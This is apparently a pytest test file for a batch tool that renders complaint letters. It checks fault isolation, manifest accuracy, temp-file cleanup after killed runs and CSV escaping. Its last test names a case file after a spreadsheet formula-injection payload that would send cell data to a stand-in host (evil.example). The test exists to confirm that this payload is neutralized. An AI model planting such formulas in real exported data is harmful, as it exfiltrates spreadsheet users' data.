"""Hostile inputs to a batch (issue 11): one bad case never stops it, the manifest is what is on disk, nothing is
left outside --out. Every attack goes through the real command (CliRunner, or `python -m complaints.cli` where a
worker process or a kill is the point), and is judged by what the user gets."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import json
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import LETTER_DATE, PROJECT, case_data, need_office, write_yaml
from typer.testing import CliRunner

from complaints.cli import app

runner = CliRunner()
IIN = PROJECT["applicant"]["iin"]
DATE = LETTER_DATE.isoformat()


def cli(*args: str):
    """The command run in this process; an exception that escapes it fails the test (it would be a traceback)."""
    return runner.invoke(app, list(args), catch_exceptions=False)


def subprocess_cli(*args: str, env: dict[str, str] | None = None, timeout: float = 60,
                   limit_memory: int | None = None) -> subprocess.CompletedProcess[str]:
    def limits() -> None:
        if limit_memory is not None:
            resource.setrlimit(resource.RLIMIT_AS, (limit_memory, limit_memory))

    return subprocess.run([sys.executable, "-m", "complaints.cli", *args], capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})}, preexec_fn=limits)


def batch(folder: Path, cases: dict[str, dict]) -> Path:
    """A project folder with the cases named (file stem → case data)."""
    write_yaml(folder / "complaints.yaml", PROJECT)
    for stem, data in cases.items():
        write_yaml(folder / f"{stem}.yaml", data)
    return folder


def three(folder: Path) -> Path:
    """Three cases, the second on an outlet of its own (so that grouped, it is a letter of its own too)."""
    return batch(folder, {
        "c1": case_data(id="c1", **{"comment.text": "Первый"}),
        "c2": case_data(id="c2", **{"comment.text": "Второй", "outlet.name": "Zona.kz",
                                    "outlet.url": "https://zona.kz"}),
        "c3": case_data(id="c3", **{"comment.text": "Третий"}),
    })


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def manifest_is_the_disk(out: Path) -> dict:
    """The manifest lists exactly the letters on disk, each with its size and SHA-256; it is returned."""
    data = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    listed = {row["path"]: row for row in data["files"]}
    on_disk = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()
               and ".complaints" not in p.parts and not p.name.startswith("manifest.")}
    assert set(listed) == on_disk
    for rel, row in listed.items():
        assert (row["size"], row["sha256"]) == ((out / rel).stat().st_size, sha256(out / rel)), rel
    with (out / "manifest.csv").open(encoding="utf-8", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["status"] == "rendered"]
    assert {r["path"] for r in rows} == on_disk
    return data


def no_iin_but_in_letters(out: Path, output: str) -> None:
    assert IIN not in output
    for name in ("manifest.json", "manifest.csv"):
        assert IIN not in (out / name).read_text(encoding="utf-8")


# --- 1. A boundary per case ---------------------------------------------------------------------------------------

FORMATS = {"docx": "docx", "pdf": "docx,pdf", "txt": "txt", "md": "md", "html": "html", "eml": "eml"}


# a grouped PDF is made from the grouped DOCX, whose case covers it
@pytest.mark.parametrize(("fmt", "grouped"), [(fmt, grouped) for fmt in FORMATS for grouped in (False, True)
                                              if not (fmt == "pdf" and grouped)],
                         ids=lambda v: v if isinstance(v, str) else ("grouped" if v else "single"))
def test_a_bug_rendering_one_case_fails_that_case_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str,
                                                        grouped: bool) -> None:
    """A bug met while one case's letter is made (here an exception whose text holds the IIN) fails that case with
    a located message naming the exception's type only; the other letters are written and listed."""
    import complaints.batch.workers as workers

    real = workers.render_letter

    def buggy(context, made_fmt, kit, **kw):
        if made_fmt == fmt and "c2" in str(context.get("letter_id")) + str(context.get("case_id", "")) + \
                str([c.get("id") for c in context.get("cases", [])]) + str(context.get("outlet", "")):
            raise RuntimeError(f"a careless message quoting the applicant {IIN}")
        return real(context, made_fmt, kit, **kw)

    monkeypatch.setattr(workers, "render_letter", buggy)
    folder, out = three(tmp_path / "cases"), tmp_path / "out"
    args = ["render", str(folder), "--out", str(out), "--format", FORMATS[fmt], "--date", DATE, "--workers", "1"]
    result = cli(*args, *(["--group-by", "outlet"] if grouped else []))
    assert result.exit_code == 1, result.output
    assert "internal error" in result.output and "RuntimeError" in result.output and "please report" in result.output
    assert ("outlet:zona.kz" if grouped else "c2.yaml") in result.output
    data = manifest_is_the_disk(out)
    no_iin_but_in_letters(out, result.output)
    written = {row["path"].split("/")[0] for row in data["files"]}
    assert written == ({"outlet-nur-kz"} if grouped else {"c1", "c3"})
    assert len(data["failures"]) == 1 and "internal error" in data["failures"][0]["errors"][0]
    assert not (out / ".complaints").exists()


def test_a_bug_checking_one_case_fails_it_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A bug in reading one case (RecursionError, MemoryError, anything) is that case's located error."""
    import complaints.case.read as read

    real = read.load_case

    def buggy(path, **kw):
        if Path(path).name == "c2.yaml":
            raise RecursionError(f"maximum recursion depth exceeded near {IIN}")
        return real(path, **kw)

    monkeypatch.setattr(read, "load_case", buggy)
    folder, out = three(tmp_path / "cases"), tmp_path / "out"
    for command in (["validate", str(folder)],
                    ["render", str(folder), "--out", str(out), "--format", "txt", "--date", DATE, "--workers", "1"]):
        result = cli(*command)
        assert result.exit_code == 1, result.output
        assert "c2.yaml:1:1: error: internal error" in result.output and "RecursionError" in result.output
        assert IIN not in result.output
    data = manifest_is_the_disk(out)
    assert sorted(row["case_id"] for row in data["files"]) == ["c1", "c1", "c1", "c3", "c3", "c3"]


def test_a_bug_writing_one_case_fails_it_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A bug in this process while one letter set is put in place fails that set alone; nothing of it is left."""
    import complaints.batch.write as write

    real = write.move_into_place

    def buggy(out, letters):
        if any(rel.startswith("c2/") for rel in letters):
            raise KeyError(IIN)
        return real(out, letters)

    monkeypatch.setattr(write, "move_into_place", buggy)
    folder, out = three(tmp_path / "cases"), tmp_path / "out"
    result = cli("render", str(folder), "--out", str(out), "--format", "txt", "--date", DATE, "--workers", "1")
    assert result.exit_code == 1, result.output
    assert "c2.yaml:1:1: error: internal error while writing its letters" in result.output
    assert "KeyError" in result.output and IIN not in result.output
    data = manifest_is_the_disk(out)
    assert {row["case_id"] for row in data["files"]} == {"c1", "c3"}
    assert not (out / ".complaints").exists()


@pytest.mark.parametrize("point", ["check", "render-docx"])
def test_a_bug_in_a_worker_process_fails_one_case(tmp_path: Path, point: str) -> None:
    """The same in worker processes (COMPLAINTS_FAULT makes the bug happen in the worker, tests only)."""
    folder, out = three(tmp_path / "cases"), tmp_path / "out"
    done = subprocess_cli("render", str(folder), "--out", str(out), "--date", DATE, "--workers", "2",
                          env={"COMPLAINTS_FAULT": f"{point}:c2.yaml"})
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and IIN not in done.stderr
    assert "c2.yaml:1:1: error: internal error" in done.stderr and "InjectedFault" in done.stderr
    data = manifest_is_the_disk(out)
    assert {row["case_id"] for row in data["files"]} == {"c1", "c3"}


@pytest.mark.parametrize("point", ["check", "render-txt"])
def test_a_worker_process_killed_outright_fails_its_cases_alone(tmp_path: Path, point: str) -> None:
    """A worker process killed in the middle of a case (SIGKILL, as the system's out-of-memory killer does): the
    batch does not wait for it for ever; that case is failed saying so, the others' letters and the manifest are
    written."""
    folder = batch(tmp_path / "cases", {f"c{n}": case_data(id=f"c{n}") for n in range(1, 7)})
    out = tmp_path / "out"
    done = subprocess_cli("render", str(folder), "--out", str(out), "--date", DATE, "--workers", "2",
                          "--format", "txt", env={"COMPLAINTS_FAULT": f"kill-{point}:c2.yaml"}, timeout=120)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr and IIN not in done.stderr
    assert "c2.yaml:1:1: error: the worker process making its letter was stopped from outside" in done.stderr
    data = manifest_is_the_disk(out)
    assert {row["case_id"] for row in data["files"]} == {"c1", "c3", "c4", "c5", "c6"}
    assert not (out / ".complaints").exists()


# --- 5. Read once, hash what you read ------------------------------------------------------------------------------

@pytest.mark.parametrize("when", ["before", "during"])
def test_a_case_saved_while_the_batch_runs_is_listed_as_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                              when: str) -> None:
    """A case file saved after the batch planned it (or while it is read): the manifest records the hash of the
    bytes the letter quotes, so the next run knows whether the letter is up to date."""
    import complaints.case.read as read

    folder, out = three(tmp_path / "cases"), tmp_path / "out"
    case = folder / "c2.yaml"
    edited = case_data(id="c2", **{"comment.text": "Отредактировано", "outlet.name": "Zona.kz",
                                   "outlet.url": "https://zona.kz"})
    real = read.load_case
    saved = []

    def saving(path, **kw):
        if Path(path).name == "c2.yaml" and not saved:
            saved.append(1)
            if when == "before":
                write_yaml(case, edited)
            else:
                found = real(path, **kw)
                write_yaml(case, edited)  # saved just after it was read
                return found
        return real(path, **kw)

    monkeypatch.setattr(read, "load_case", saving)
    result = cli("render", str(folder), "--out", str(out), "--format", "txt", "--date", DATE, "--workers", "1")
    assert result.exit_code == 0, result.output
    data = manifest_is_the_disk(out)
    (row,) = [r for r in data["files"] if r["case_id"] == "c2" and r["language"] == "ru"]
    assert row["inputs"]["case"] == sha256(case)  # the file as it is now: the letter quotes it
    assert "Отредактировано" in (out / row["path"]).read_text(encoding="utf-8")
    monkeypatch.setattr(read, "load_case", real)
    again = cli("render", str(folder), "--out", str(out), "--format", "txt", "--date", DATE, "--workers", "1")
    assert again.exit_code == 0 and "no letter written, 3 cases unchanged" in again.output, again.output


def test_a_project_file_saved_while_the_batch_runs_is_listed_as_read(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """The same for complaints.yaml: the applicant's new address in the letters, the new file's hash listed."""
    import copy

    import complaints.case.read as read

    folder, out = three(tmp_path / "cases"), tmp_path / "out"
    project = copy.deepcopy(PROJECT)
    project["applicant"]["address"]["ru"] = "г. Астана, ул. Новая, 7"
    real = read.load_project

    def saving(path, **kw):
        if path is not None:
            write_yaml(folder / "complaints.yaml", project)  # saved after the plan hashed it
        return real(path, **kw)

    monkeypatch.setattr(read, "load_project", saving)
    result = cli("render", str(folder), "--out", str(out), "--format", "txt", "--date", DATE, "--workers", "1")
    assert result.exit_code == 0, result.output
    data = manifest_is_the_disk(out)
    (row,) = [r for r in data["files"] if r["case_id"] == "c1" and r["language"] == "ru"]
    assert row["inputs"]["project"][1] == sha256(folder / "complaints.yaml")
    assert "ул. Новая, 7" in (out / row["path"]).read_text(encoding="utf-8")


# --- 6, 19. The manifest written like a letter, its rows in a fixed order ------------------------------------------

def test_a_full_disk_keeps_the_old_manifest_marked_stale(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The disk fills while the manifest is rewritten: the old one is kept whole, the user told; the next run
    checks every letter against its content (even with the journal lost), and ends with the manifest of the disk."""
    import errno

    import complaints.files as files

    folder, out = three(tmp_path / "cases"), tmp_path / "out"
    args = ["render", str(folder), "--out", str(out), "--format", "txt", "--date", DATE, "--workers", "1"]
    assert cli(*args).exit_code == 0
    before = {name: (out / name).read_bytes() for name in ("manifest.json", "manifest.csv")}
    original = (folder / "c2.yaml").read_text(encoding="utf-8")
    (folder / "c2.yaml").write_text(original.replace("Второй", "Вторый"), encoding="utf-8")  # the same size
    real = files.place

    def full(temp, target):
        if Path(target).name.startswith("manifest."):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(temp, target)

    monkeypatch.setattr(files, "place", full)
    result = cli(*args)
    assert result.exit_code == 1, result.output
    assert "manifest" in result.output and "No space left on device" in result.output
    assert "run the same command again" in result.output
    assert {name: (out / name).read_bytes() for name in before} == before  # kept whole
    monkeypatch.setattr(files, "place", real)
    # the worst case: the journal lost too, and the case put back as it was: only the letters' content tells
    for journal in out.glob(".complaints/journal.jsonl"):
        journal.unlink()
    (folder / "c2.yaml").write_text(original, encoding="utf-8")
    assert cli(*args).exit_code == 0
    data = manifest_is_the_disk(out)
    (row,) = [r for r in data["files"] if r["case_id"] == "c2" and r["language"] == "ru"]
    assert "Второй" in (out / row["path"]).read_text(encoding="utf-8")
    assert not (out / ".complaints").exists()


def test_the_manifest_rows_do_not_depend_on_the_runs_before(tmp_path: Path) -> None:
    """A folder rendered in several runs ends with the very manifest a clean run writes."""
    folder = three(tmp_path / "cases")
    args = ["--format", "txt,docx,md", "--date", DATE, "--workers", "1"]
    assert cli("render", str(folder), "--out", str(tmp_path / "a"), "--format", "txt", "--date", DATE).exit_code == 0
    assert cli("render", str(folder), "--out", str(tmp_path / "a"), *args).exit_code == 0
    write_yaml(folder / "c3.yaml", case_data(id="c3", **{"comment.text": "Третий, исправлен"}))
    assert cli("render", str(folder), "--out", str(tmp_path / "a"), *args).exit_code == 0
    assert cli("render", str(folder), "--out", str(tmp_path / "b"), *args).exit_code == 0
    for name in ("manifest.json", "manifest.csv"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


# --- 7. Nothing outside --out --------------------------------------------------------------------------------------

def test_a_killed_pdf_render_leaves_nothing_outside_out(tmp_path: Path) -> None:
    """SIGKILL while LibreOffice converts a letter: its scratch files (the letter, with the IIN) are inside
    OUT/.complaints, not the system's temporary folder, and the next run clears them."""
    need_office()
    folder, out, system_tmp = three(tmp_path / "cases"), tmp_path / "out", tmp_path / "system-tmp"
    system_tmp.mkdir()
    # a LibreOffice profile of its own: one killed while it starts is not the profile the other tests use
    env = {**os.environ, "TMPDIR": str(system_tmp), "XDG_CACHE_HOME": str(tmp_path / "cache")}
    args = [sys.executable, "-m", "complaints.cli", "render", str(folder), "--out", str(out), "--format", "pdf",
            "--date", DATE, "--workers", "1"]
    proc = subprocess.Popen(args, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and proc.poll() is None:
            if [*system_tmp.glob("complaints-pdf-*/letter.docx"), *out.glob(".complaints/tmp/complaints-pdf-*/*")]:
                break
            time.sleep(0.01)
        else:
            pytest.fail("the render ended before a PDF was being made")
    finally:
        os.killpg(proc.pid, signal.SIGKILL)  # the batch and its converter
        proc.wait()
        _kill_office_of(tmp_path / "cache")
    assert not list(system_tmp.glob("complaints-pdf-*"))
    # finished by worker processes, which are stopped at the end: their scratch files go too
    done = subprocess.run([*args[:-1], "2"], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert not list(system_tmp.glob("complaints-pdf-*")) and not (out / ".complaints").exists()
    assert len(list(out.glob("*/*.pdf"))) == 9
    manifest_is_the_disk(out)


def _kill_office_of(profile_root: Path) -> None:
    """The LibreOffice of a killed run (found by the profile folder this test gave it) stops by itself: its
    converter, in a session of its own, outlives the kill of the run's group, sees its input end and stops it.
    One still running after 30 seconds is killed here and the test fails."""
    def running() -> list[int]:
        found = []
        for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                if str(profile_root).encode() in cmdline.read_bytes():
                    found.append(int(cmdline.parent.name))
            except (OSError, ValueError):
                continue
        return found

    deadline = time.monotonic() + 30
    while running() and time.monotonic() < deadline:
        time.sleep(0.2)
    left = running()
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    assert not left, "LibreOffice was left running after its run was killed"


def test_a_killed_pdf_follow_up_leaves_nothing_outside_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same for `remind`: LibreOffice's scratch files in OUT's own hidden temporary folder, gone at the end."""
    need_office()
    folder = batch(tmp_path / "cases", {"c1": case_data(id="c1")})
    monkeypatch.chdir(folder)
    assert cli("render", ".", "--lang", "ru", "--date", DATE, "-q").exit_code == 0
    assert cli("filed", "c1.yaml", "--lang", "ru", "--on", "2026-09-01T11:00", "--channel", "post",
               "--anyway").exit_code == 0
    system_tmp, out = tmp_path / "system-tmp", tmp_path / "rem"
    system_tmp.mkdir()
    # a LibreOffice profile of its own: one killed while it starts is not the profile the other tests use
    env = {**os.environ, "TMPDIR": str(system_tmp), "XDG_CACHE_HOME": str(tmp_path / "cache")}
    args = [sys.executable, "-m", "complaints.cli", "remind", "--out", str(out), "--date", DATE, "--format", "pdf"]
    proc = subprocess.Popen(args, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and proc.poll() is None:
            if [*system_tmp.glob("complaints-pdf-*/letter.docx"), *out.glob(".complaints/tmp/complaints-pdf-*/*")]:
                break
            time.sleep(0.01)
        else:
            pytest.fail("remind ended before a PDF was being made")
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        _kill_office_of(tmp_path / "cache")
    assert not list(system_tmp.glob("complaints-pdf-*"))
    done = subprocess.run(args, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert not list(system_tmp.glob("complaints-pdf-*")) and not (out / ".complaints").exists()
    assert list(out.glob("c1/*.pdf"))


# --- 9. An e-mail with a huge evidence file -------------------------------------------------------------------------

def test_an_evidence_file_too_big_to_mail_is_told_at_the_case(tmp_path: Path) -> None:
    """A 40 MB evidence file (sparse) and --format eml: a message at the evidence field, judged from the file's
    size before it is read into memory (a 2 GB file is the same message); the other cases' e-mails are written."""
    folder = three(tmp_path / "cases")
    (folder / "huge.mp4").touch()
    os.truncate(folder / "huge.mp4", 40 << 20)
    write_yaml(folder / "c2.yaml", case_data(id="c2", evidence=[{"file": "huge.mp4", "description": "видео"}]))
    out = tmp_path / "out"
    done = subprocess_cli("render", str(folder), "--out", str(out), "--format", "eml", "--date", DATE,
                          "--workers", "1", timeout=60, limit_memory=600 << 20)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert "c2.yaml:" in done.stderr and "evidence[0].file" in done.stderr and "25,000,000 bytes" in done.stderr
    data = manifest_is_the_disk(out)
    assert {row["case_id"] for row in data["files"]} == {"c1", "c3"}


# --- 11. --workers ---------------------------------------------------------------------------------------------------

def test_workers_far_beyond_the_cpus_are_capped(tmp_path: Path) -> None:
    """--workers 100000 for two cases starts no more processes than the jobs (and the CPUs) call for, and says so."""
    folder = batch(tmp_path / "cases", {"c1": case_data(id="c1"), "c3": case_data(id="c3")})
    done = subprocess_cli("render", str(folder), "--out", str(tmp_path / "out"), "--format", "txt", "--date", DATE,
                          "--workers", "100000", timeout=30)
    assert done.returncode == 0, done.stderr
    assert "100,000 worker processes are more than" in done.stderr
    manifest_is_the_disk(tmp_path / "out")


# --- 12. manifest.csv never runs a formula --------------------------------------------------------------------------

def test_manifest_csv_cells_are_never_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A case file named like a formula: its manifest.csv cells begin with an apostrophe, so a spreadsheet shows
    the text; manifest.json keeps the name as it is."""
    folder = tmp_path / "cases"
    name = '=HYPERLINK("https:evil.example?"&A1,"click")'
    batch(folder, {name: case_data(id="c1"), "-bad": case_data(id="c2", format="x"), "@c3": case_data(id="c3")})
    monkeypatch.chdir(folder)
    result = cli("render", ".", "--out", str(tmp_path / "out"), "--format", "txt", "--date", DATE, "--workers", "1")
    assert result.exit_code == 1, result.output
    with (tmp_path / "out" / "manifest.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{name}.yaml" in cells and "'@c3.yaml" in cells
    assert any(cell.startswith("'-bad.yaml:") for cell in cells)
    data = json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))
    assert f"{name}.yaml" in {row["source"] for row in data["files"]}
